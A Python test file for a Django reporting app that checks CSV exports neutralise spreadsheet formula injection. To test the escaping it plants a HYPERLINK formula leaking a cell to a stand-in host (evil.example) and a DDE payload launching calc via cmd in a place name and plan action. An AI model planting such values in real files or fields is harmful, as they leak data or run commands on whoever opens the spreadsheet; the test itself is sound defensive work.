"""Every CSV the reports offer is safe to open in a spreadsheet (met/csv.py)."""

import csv
import io
from datetime import date, datetime
from zoneinfo import ZoneInfo

from django.urls import reverse

from met.csv import FORMULA_STARTS
from reporting import services, tables
from reporting.models import PlanAction, ReportKind
from tests.factories import CaseFactory, PlaceLinkFactory, PlaceOfConcernFactory

LONDON = ZoneInfo("Europe/London")
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def cells(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode())))


def hostile_report(demo_data):
    """October 2026's report with a place named like a formula, and plan action 1.1 written like one."""
    chair, police = demo_data["chair@example.org"], demo_data["practitioner.police@example.org"]
    place = PlaceOfConcernFactory(name=HOSTILE, created_by=police)
    PlaceLinkFactory(
        place=place,
        case=CaseFactory(opened_at=datetime(2026, 9, 1, tzinfo=LONDON)),
        linked_by=police,
        linked_at=datetime(2026, 10, 3, tzinfo=LONDON),
    )
    PlanAction.objects.filter(ref="1.1").update(what="+cmd|' /C calc'!A0", who="@SUM(1)")
    report, _ = services.report_request(actor=chair, kind=ReportKind.MACE_MONTHLY, start=date(2026, 10, 1))
    return services.report_build(report_id=report.pk)


def test_it_escapes_formulas_in_every_report_table_and_the_plan(demo_data, login):
    report = hostile_report(demo_data)
    client = login(demo_data["chair@example.org"])

    downloads = {t.slug: client.get(reverse("report_csv", args=[report.pk, t.slug])) for t in tables.build(report.data)}
    downloads["plan"] = client.get(reverse("plan_export"))
    for name, response in downloads.items():
        assert response.status_code == 200, name
        assert response["Content-Type"] == "text/csv; charset=utf-8"
        for row in cells(response):
            assert not any(cell[:1] in FORMULA_STARTS for cell in row), (name, row)
    assert ["'" + HOSTILE, "venue", "1"] in cells(downloads["places"])
    plan_row = next(row for row in cells(downloads["plan"]) if row[1] == "1.1")
    assert plan_row[2:5:2] == ["'+cmd|' /C calc'!A0", "'@SUM(1)"]
